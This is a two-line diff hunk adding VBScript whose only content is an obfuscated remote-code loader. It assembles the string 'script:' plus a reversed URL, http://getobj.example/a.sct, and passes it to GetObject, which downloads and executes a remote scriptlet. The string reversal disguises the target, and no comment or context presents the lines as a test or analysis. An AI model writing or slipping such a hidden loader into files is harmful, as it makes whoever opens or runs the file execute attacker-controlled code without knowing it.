@@ -1,0 +1,2 @@
+x = "scr" & "ipt:" & StrReverse("tcs.a/elpmaxe.ojbteg//:ptth")
+GetObject(x)
